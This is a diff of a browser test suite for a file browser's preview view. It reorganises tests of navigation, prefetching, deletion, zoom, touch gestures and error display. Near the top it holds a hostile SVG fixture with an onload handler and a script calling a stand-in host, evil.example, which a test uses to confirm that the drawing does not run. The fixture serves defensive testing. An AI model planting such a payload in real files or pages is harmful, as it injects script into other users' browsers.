@@ -6,7 +6,7 @@ import { expect, test } from 'vitest'
 import { rowOf, signIn } from '../kit/browser.ts'
 import { rotatedJpeg } from '../kit/images.ts'
 import { makePdf } from '../kit/pdf.ts'
-import { ada, ann, bea } from '../kit/run-server.ts'
+import { ann } from '../kit/run-server.ts'
 import { makeZip } from '../kit/zip.ts'
 import {
   atRoot,
@@ -17,7 +17,7 @@ import {
   violationsInBothThemes,
 } from './journeys.ts'
 
-const photo = await rotatedJpeg(800, 600)
+const photo = await rotatedJpeg(200, 150)
 const hostile =
   '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.hacked = 1">' +
   '<script>parent.hacked = 1; fetch("https://evil.example/")</script><rect width="40" height="40"/></svg>'
@@ -27,72 +27,71 @@ const oneTriangle = Buffer.alloc(84 + 50)
 oneTriangle.writeUInt32LE(1, 80)
 ;[0, 0, 0, 1, 0, 0, 0, 1, 0].forEach((value, at) => oneTriangle.writeFloatLE(value, 96 + at * 4))
 
+type Point = { readonly x: number; readonly y: number }
+const fingersAt = (...xs: readonly number[]): Point[] => xs.map((x) => ({ x, y: 420 }))
+
 const nameShown = (page: Page) => page.locator('[data-part="file"] h1').innerText()
 const imageOf = (page: Page) => page.locator('[data-part="file"] img[data-loaded]')
 const widthOf = async (page: Page) => Math.round((await imageOf(page).boundingBox())?.width ?? 0)
 
-atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
+atRoot({ files: {}, people: [ann] }, ({ server, window }) => {
   const at = (...names: readonly string[]): string => path.join(server().folder, ...names)
   let visits = 0
   /** Fills a new folder and opens it. */
   const openFolder = async (
     files: Readonly<Record<string, string | Uint8Array>>,
-    { person = ann, ...options }: Parameters<typeof window>[0] & { readonly person?: typeof ann } = {},
+    options: Parameters<typeof window>[0] = {},
   ): Promise<{ readonly page: Page; readonly folder: string }> => {
     const folder = `album ${(visits += 1)}`
     await mkdir(at(folder))
     for (const [name, content] of Object.entries(files)) await writeFile(at(folder, name), content)
     const page = await window(options)
-    await signIn(page, server(), person, `/files/${encodeURIComponent(folder)}/`)
+    await signIn(page, server(), ann, `/files/${encodeURIComponent(folder)}/`)
     await rowOf(page, Object.keys(files)[0] ?? '').waitFor()
     return { page, folder }
   }
 
-  test('the arrows go through the files of a folder in the order of the listing, and Escape returns to the row', async () => {
-    const names = ['2 b#?&+.jpg', '10 a%2Fb.jpg', '😀.jpg']
+  test('the arrows go through the files of a folder in its order, fetch the neighbours ahead, do not rush while they are held, and Escape returns to the row', async () => {
+    const numbered = Array.from({ length: 6 }, (_, index) => `${index + 20}.jpg`)
+    const images = ['2 b#?&+.jpg', '10 a%2Fb.jpg', ...numbered, '😀.jpg']
     const { page } = await openFolder({
-      ...Object.fromEntries(names.map((name) => [name, photo])),
+      ...Object.fromEntries(images.map((name) => [name, photo])),
       'notes.txt': '',
     })
-    await rowOf(page, '2 b#?&+.jpg').dblclick()
+    const fetched = new Set<string>()
+    page.on('request', (request) => {
+      const name = /\/api\/preview\/big\/.*\/([^/]+\.jpg)/.exec(request.url())?.[1]
+      if (name !== undefined) fetched.add(decodeURIComponent(name))
+    })
+    const fetchedNumbers = () => [...fetched].filter((name) => numbered.includes(name)).toSorted()
+    await rowOf(page, '22.jpg').dblclick()
     await imageOf(page).waitFor()
-    await page.getByText('1 of 3').waitFor()
+    await page.getByText('5 of 9').waitFor()
     await expectFocusInside(page)
+    await eventually(fetchedNumbers, ['21.jpg', '22.jpg', '23.jpg'])
+    await page.keyboard.press('ArrowRight')
+    await eventually(() => nameShown(page), '23.jpg')
+    await imageOf(page).waitFor()
+    await eventually(fetchedNumbers, ['21.jpg', '22.jpg', '23.jpg', '24.jpg'])
+
     for (const [key, name] of [
-      ['ArrowRight', '10 a%2Fb.jpg'],
-      ['Enter', '😀.jpg'],
-      ['ArrowRight', '😀.jpg'],
       ['Home', '2 b#?&+.jpg'],
+      ['Enter', '10 a%2Fb.jpg'],
       ['End', '😀.jpg'],
-      ['ArrowLeft', '10 a%2Fb.jpg'],
+      ['ArrowRight', '😀.jpg'],
+      ['ArrowLeft', '25.jpg'],
     ] as const) {
       await page.keyboard.press(key)
       await eventually(() => nameShown(page), name)
+      await eventually(() => decodeURIComponent(page.url()).endsWith(`/${name}`), true)
       await imageOf(page).waitFor()
     }
-    expect(decodeURIComponent(page.url())).toContain('/10 a%2Fb.jpg')
     await page.getByRole('button', { name: 'Next file' }).click()
     await eventually(() => nameShown(page), '😀.jpg')
-    await page.reload()
-    await page.getByText('3 of 3').waitFor()
-    expect(await page.getByRole('button', { name: 'Next file' }).getAttribute('aria-disabled')).toBe('true')
-    await page.keyboard.press('Escape')
-    await eventually(() => focusOf(page), 'MAIN 😀.jpg')
-    await page.keyboard.press('Enter')
-    await imageOf(page).waitFor()
     await page.keyboard.press('Home')
     await eventually(() => nameShown(page), '2 b#?&+.jpg')
-    await page.keyboard.press('Backspace')
-    await eventually(() => focusOf(page), 'MAIN 2 b#?&+.jpg')
-  })
-
-  test('a held arrow key does not rush through the files', async () => {
-    const { page } = await openFolder(
-      Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`${at + 1}.jpg`, photo])),
-    )
-    await rowOf(page, '1.jpg').dblclick()
     await imageOf(page).waitFor()
-    await page.getByText('1 of 9').waitFor()
+
     await page.evaluate(() => {
       for (let at = 0; at < 20; at += 1)
         document.body.dispatchEvent(
@@ -104,9 +103,9 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
           }),
         )
     })
-    await eventually(() => nameShown(page), '2.jpg')
+    await eventually(() => nameShown(page), '10 a%2Fb.jpg')
     await imageOf(page).waitFor()
-    expect(await nameShown(page)).toBe('2.jpg')
+    expect(await nameShown(page)).toBe('10 a%2Fb.jpg')
     // Returns the times in ms at which the shown name changed while the key was held for two seconds.
     const changes = await page.evaluate(async () => {
       const times: number[] = []
@@ -125,28 +124,24 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
     })
     expect(changes.length).toBeGreaterThan(1)
     expect(changes.length).toBeLessThan(6)
+
+    await page.keyboard.press('End')
+    await eventually(() => nameShown(page), '😀.jpg')
+    await page.reload()
+    await page.getByText('9 of 9').waitFor()
+    expect(await page.getByRole('button', { name: 'Next file' }).getAttribute('aria-disabled')).toBe('true')
+    await page.keyboard.press('Escape')
+    await eventually(() => focusOf(page), 'MAIN 😀.jpg')
+    await page.keyboard.press('Enter')
+    await imageOf(page).waitFor()
+    await page.keyboard.press('Home')
+    await eventually(() => nameShown(page), '2 b#?&+.jpg')
+    await page.keyboard.press('Backspace')
+    await eventually(() => focusOf(page), 'MAIN 2 b#?&+.jpg')
   })
 
-  test('the images before and after the open one are fetched before they are asked for', async () => {
-    const { page, folder } = await openFolder(
-      Object.fromEntries(Array.from({ length: 5 }, (_, at) => [`${at + 1}.jpg`, photo])),
-    )
-    const fetched: string[] = []
-    page.on('request', (request) => {
-      const name = /\/api\/preview\/big\/.*\/(\d)\.jpg/.exec(request.url())?.[1]
-      if (name !== undefined) fetched.push(name)
-    })
-    await page.goto(`${server().url}/files/${encodeURIComponent(folder)}/3.jpg`)
-    await imageOf(page).waitFor()
-    await eventually(() => fetched.toSorted(), ['2', '3', '4'])
-    await page.keyboard.press('ArrowRight')
-    await eventually(() => nameShown(page), '4.jpg')
-    await imageOf(page).waitFor()
-    await eventually(() => fetched.toSorted(), ['2', '3', '4', '5'])
-  })
-
-  test('F2 renames the open file, and its address follows', async () => {
-    const { page, folder } = await openFolder({ 'old.jpg': photo, 'other.jpg': photo })
+  test('F2 renames the open file and its address, a deletion shows the next file, else the previous one, else the folder, and a refused one says why', async () => {
+    const { page, folder } = await openFolder({ 'old.jpg': photo, 'a.jpg': photo, 'b.jpg': photo })
     await rowOf(page, 'old.jpg').dblclick()
     await imageOf(page).waitFor()
     await page.keyboard.press('F2')
@@ -154,16 +149,14 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
     await page.keyboard.press('Enter')
     await page.waitForURL('**/zoo.jpg')
     await eventually(() => nameShown(page), 'zoo.jpg')
-    await page.getByText('2 of 2').waitFor()
-    expect(readdirSync(at(folder)).toSorted()).toEqual(['other.jpg', 'zoo.jpg'])
-  })
+    await page.getByText('3 of 3').waitFor()
+    expect(readdirSync(at(folder)).toSorted()).toEqual(['a.jpg', 'b.jpg', 'zoo.jpg'])
 
-  test('after a deletion the next file is shown, else the previous one, else the folder', async () => {
-    const { page, folder } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo, 'c.jpg': photo })
-    await rowOf(page, 'b.jpg').dblclick()
+    await imageOf(page).waitFor()
+    await page.keyboard.press('ArrowLeft')
     for (const [shown, next] of [
-      ['b.jpg', 'c.jpg'],
-      ['c.jpg', 'a.jpg'],
+      ['b.jpg', 'zoo.jpg'],
+      ['zoo.jpg', 'a.jpg'],
     ] as const) {
       await eventually(() => nameShown(page), shown)
       await imageOf(page).waitFor()
@@ -173,18 +166,10 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
       expect(existsSync(at(folder, shown))).toBe(false)
     }
     await page.getByText('1 of 1').waitFor()
-    await page.getByRole('button', { name: 'Delete', exact: true }).click()
-    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
-    await page.getByText('It feels lonely here...').waitFor()
-    expect(readdirSync(at(folder))).toEqual([])
-  })
 
-  test('a deletion that the server refuses leaves the file open and says why', async () => {
-    const { page } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo })
-    await rowOf(page, 'a.jpg').dblclick()
-    await imageOf(page).waitFor()
+    let refusals = 1
     await page.route(/\/api\/resources\/.*a\.jpg/, (route) =>
-      route.request().method() === 'DELETE'
+      route.request().method() === 'DELETE' && refusals-- > 0
         ? route.fulfill({ status: 423, headers: { 'X-Error': 'busy' }, body: '423 Locked\n' })
         : route.continue(),
     )
@@ -195,12 +180,18 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
       .getByText(/a\.jpg was not deleted/)
       .waitFor()
     expect(await nameShown(page)).toBe('a.jpg')
+    await page.getByRole('button', { name: 'Delete', exact: true }).click()
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
+    await page.getByText('It feels lonely here...').waitFor()
+    expect(readdirSync(at(folder))).toEqual([])
   })
 
-  test('an image is zoomed by the wheel, keys and double clicks, and is moved and rotated', async () => {
-    const { page } = await openFolder({ 'photo.jpg': await rotatedJpeg(2400, 1800) })
-    await rowOf(page, 'photo.jpg').dblclick()
+  test('an image has no violation that axe reports in both themes, is zoomed by the wheel, keys and double clicks, and is moved and rotated', async () => {
+    const { page } = await openFolder({ 'a.jpg': await rotatedJpeg(1600, 1200), 'b.jpg': photo })
+    await rowOf(page, 'a.jpg').dblclick()
     await imageOf(page).waitFor()
+    expect(await violationsInBothThemes(page)).toEqual([])
+
     const fitted = await widthOf(page)
     const hasScale = (scale: number) =>
       eventually(async () => Math.abs((await widthOf(page)) - fitted * scale) <= 2, true)
@@ -229,8 +220,16 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
     }, true)
   })
 
-  test('the arrows at the sides hide while the mouse rests', async () => {
-    const { page } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo })
+  test('the arrows at the sides hide while the mouse rests, and cover nothing of archives, comics, PDF files and models', async () => {
+    const picture = makeZip([{ name: '1.jpg', content: photo }])
+    const { page } = await openFolder({
+      'a.jpg': photo,
+      'b.pdf': makePdf({ pages: ['One'] }),
+      'c.zip': picture,
+      'd.cbz': picture,
+      'e.stl': oneTriangle,
+      'f.jpg': photo,
+    })
     await rowOf(page, 'a.jpg').dblclick()
     const next = page.getByRole('button', { name: 'Next file' })
     const opacity = () => next.evaluate((button) => getComputedStyle(button).opacity)
@@ -265,42 +264,48 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
     await page.keyboard.press('Shift+Tab')
     await page.keyboard.press('Tab')
     await eventually(opacity, '1')
-  })
 
-  test.each([
-    { width: 1280, names: ['b.zip'] },
-    { width: 390, names: ['a.pdf', 'b.zip', 'c.cbz', 'd.stl'] },
-  ])('the arrows at the sides cover nothing of $names at $width pixels', async ({ width, names }) => {
-    const picture = makeZip([{ name: '1.jpg', content: photo }])
-    const { page, folder } = await openFolder(
-      { 'a.pdf': makePdf({ pages: ['One'] }), 'b.zip': picture, 'c.cbz': picture, 'd.stl': oneTriangle },
-      { viewport: { width, height: 800 } },
-    )
-    for (const name of names) {
-      await page.goto(`${server().url}/files/${encodeURIComponent(folder)}/${name}`)
+    const wide = { width: 1280, height: 800 }
+    const phone = { width: 390, height: 800 }
+    for (const [name, viewports] of [
+      ['b.pdf', [phone]],
+      ['c.zip', [phone, wide]],
+      ['d.cbz', [phone]],
+      ['e.stl', [phone]],
+    ] as const) {
+      await next.click()
+      await eventually(() => nameShown(page), name)
       const content = page.locator('[data-part="file"] [data-fills-width]').first()
       await content.waitFor()
-      for (const arrow of ['Previous file', 'Next file']) {
-        const button = page.getByRole('button', { name: arrow, exact: true })
-        await button.waitFor()
-        expect([name, arrow, await doOverlap(button, content)]).toEqual([name, arrow, false])
+      for (const viewport of viewports) {
+        await page.setViewportSize(viewport)
+        for (const arrow of ['Previous file', 'Next file']) {
+          const button = page.getByRole('button', { name: arrow, exact: true })
+          await button.waitFor()
+          await eventually(
+            async () => [viewport, name, arrow, await doOverlap(button, content)],
+            [viewport, name, arrow, false],
+          )
+        }
       }
     }
   })
 
-  test('on a phone a swipe leads to the next file, and a swipe down closes it', async () => {
+  test('on a phone two fingers zoom an image at their place, a double tap goes through the scales, and swipes lead to the next file and close it', async () => {
     const { page } = await openFolder(
-      { 'a.jpg': photo, 'b.jpg': photo },
+      { 'a.jpg': await rotatedJpeg(1600, 1200), 'b.jpg': photo },
       { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true },
     )
     const cdp = await page.context().newCDPSession(page)
-    const swipe = async (x: number, y: number) => {
-      await cdp.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: [{ x: 200, y: 400 }] })
-      await cdp.send('Input.dispatchTouchEvent', {
-        type: 'touchMove',
-        touchPoints: [{ x: 200 + x, y: 400 + y }],
+    const touch = (type: 'touchStart' | 'touchMove' | 'touchEnd', ...points: readonly Point[]) =>
+      cdp.send('Input.dispatchTouchEvent', {
+        type,
+        touchPoints: points.map((point, id) => ({ ...point, id })),
       })
-      await cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] })
+    const swipe = async (x: number, y: number) => {
+      await touch('touchStart', { x: 200, y: 400 })
+      await touch('touchMove', { x: 200 + x, y: 400 + y })
+      await touch('touchEnd')
     }
     await rowOf(page, 'a.jpg').tap()
     await imageOf(page).waitFor()
@@ -308,33 +313,17 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
     await facts.waitFor()
     // The line of facts does not wrap.
     expect((await facts.boundingBox())?.height).toBeLessThan(24)
-    await swipe(-150, 5)
-    await eventually(() => nameShown(page), 'b.jpg')
-    await imageOf(page).waitFor()
-    await swipe(0, 150)
-    await rowOf(page, 'b.jpg').waitFor()
-  })
 
-  test('two fingers zoom an image at their place, and a double tap goes through the scales', async () => {
-    const { page } = await openFolder(
-      { 'photo.jpg': await rotatedJpeg(2400, 1800), 'z.jpg': photo },
-      { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true },
-    )
-    await rowOf(page, 'photo.jpg').tap()
-    await imageOf(page).waitFor()
     const fitted = await widthOf(page)
     const hasScale = (scale: number) =>
       eventually(async () => Math.abs((await widthOf(page)) - fitted * scale) <= 2, true)
-    const cdp = await page.context().newCDPSession(page)
-    const touch = (type: 'touchStart' | 'touchMove' | 'touchEnd', ...xs: readonly number[]) =>
-      cdp.send('Input.dispatchTouchEvent', { type, touchPoints: xs.map((x, id) => ({ x, y: 420, id })) })
-    await touch('touchStart', 150, 250)
-    await touch('touchMove', 100, 300)
+    await touch('touchStart', ...fingersAt(150, 250))
+    await touch('touchMove', ...fingersAt(100, 300))
     await hasScale(2)
-    await touch('touchMove', 145, 245)
+    await touch('touchMove', ...fingersAt(145, 245))
     await touch('touchEnd')
     await hasScale(1)
-    expect(await nameShown(page)).toBe('photo.jpg')
+    expect(await nameShown(page)).toBe('a.jpg')
     for (const scale of [2, 4, 1]) {
       // Taps that follow within 300 ms would count as the third and fourth of a row.
       await page.waitForTimeout(400)
@@ -342,66 +331,59 @@ atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
       await page.touchscreen.tap(200, 420)
       await hasScale(scale)
     }
-  })
 
-  test('a hostile drawing does not act, and a file without a viewer offers its download', async () => {
-    const { page } = await openFolder({ 'evil.svg': hostile, 'unknown.xyz': new Uint8Array([0, 1, 2, 255]) })
-    await rowOf(page, 'evil.svg').dblclick()
+    await swipe(-150, 5)
+    await eventually(() => nameShown(page), 'b.jpg')
     await imageOf(page).waitFor()
-    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
-    await page.keyboard.press('ArrowRight')
-    await page.getByText('Preview is not available for this file.').waitFor()
-    await page.getByText(/^File · 4\sB · /).waitFor()
-    const download = page.waitForEvent('download')
-    await page.locator('[data-part="file"]').getByRole('button', { name: 'Download' }).click()
-    expect((await download).suggestedFilename()).toBe('unknown.xyz')
+    await swipe(0, 150)
+    await rowOf(page, 'b.jpg').waitFor()
   })
 
-  test('a damaged image says so, and an image in a format that browsers do not know does not', async () => {
-    const { page } = await openFolder({ 'a.jpg': 'no picture', 'b.heic': 'no picture' })
-    await rowOf(page, 'a.jpg').dblclick()
-    await page.getByText('Preview is not available for this file.').waitFor()
-    await page.getByText('The file seems to be damaged.').waitFor()
-    await page.keyboard.press('ArrowRight')
-    await page.getByRole('heading', { name: 'b.heic' }).waitFor()
-    await page.getByText('Preview is not available for this file.').waitFor()
-    expect(await page.getByText('The file seems to be damaged.').count()).toBe(0)
-  })
-
-  test('an image that takes long to load shows that it is loading', async () => {
-    const { page } = await openFolder({ 'slow.jpg': photo })
+  test('an image shows that it is loading, a damaged one says so, a hostile drawing does not act, and a file without a viewer offers its download', async () => {
+    const { page } = await openFolder({
+      'a.jpg': photo,
+      'b.jpg': 'no picture',
+      'c.heic': 'no picture',
+      'd.svg': hostile,
+      'e.xyz': new Uint8Array([0, 1, 2, 255]),
+    })
     const loadingEnd = Promise.withResolvers<void>()
     for (const route of ['**/api/raw/**', '**/api/preview/big/**'])
       await page.route(route, async (request) => {
         await loadingEnd.promise
         await request.continue()
       })
-    await rowOf(page, 'slow.jpg').dblclick()
+    await rowOf(page, 'a.jpg').dblclick()
     const loading = page.locator('[data-part="file"]').getByText('Loading', { exact: false })
     await loading.waitFor()
     expect(await page.getByRole('toolbar', { name: 'Zoom' }).getByText('%').count()).toBe(0)
     loadingEnd.resolve()
     await imageOf(page).waitFor()
     expect(await loading.count()).toBe(0)
-  })
 
-  test('a person without permissions is offered neither the actions nor the content', async () => {
-    const { page } = await openFolder({ 'a.jpg': photo }, { person: bea })
-    await rowOf(page, 'a.jpg').dblclick()
-    await page
-      .getByText('This file is not shown, because you do not have the permission to download files.')
-      .waitFor()
-    await page.keyboard.press('Delete')
-    await page.keyboard.press('F2')
-    for (const name of ['Rename', 'Delete', 'Download', 'Open file'])
-      expect([name, await page.getByRole('button', { name, exact: true }).count()]).toEqual([name, 0])
-    expect(await page.getByRole('dialog').count()).toBe(0)
-  })
+    const noPreview = page.getByText('Preview is not available for this file.')
+    const damaged = page.getByText('The file seems to be damaged.')
+    await page.keyboard.press('ArrowRight')
+    await page.getByRole('heading', { name: 'b.jpg' }).waitFor()
+    await noPreview.waitFor()
+    await damaged.waitFor()
+    // Browsers do not know this format, so the file may be valid.
+    await page.keyboard.press('ArrowRight')
+    await page.getByRole('heading', { name: 'c.heic' }).waitFor()
+    await noPreview.waitFor()
+    expect(await damaged.count()).toBe(0)
 
-  test('an open image has no violation that axe reports in both themes', async () => {
-    const { page } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo })
-    await rowOf(page, 'a.jpg').dblclick()
+    await page.keyboard.press('ArrowRight')
+    await page.getByRole('heading', { name: 'd.svg' }).waitFor()
     await imageOf(page).waitFor()
-    expect(await violationsInBothThemes(page)).toEqual([])
+    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
+
+    await page.keyboard.press('ArrowRight')
+    await page.getByRole('heading', { name: 'e.xyz' }).waitFor()
+    await noPreview.waitFor()
+    await page.getByText(/^File · 4\sB · /).waitFor()
+    const download = page.waitForEvent('download')
+    await page.locator('[data-part="file"]').getByRole('button', { name: 'Download' }).click()
+    expect((await download).suggestedFilename()).toBe('e.xyz')
   })
 })
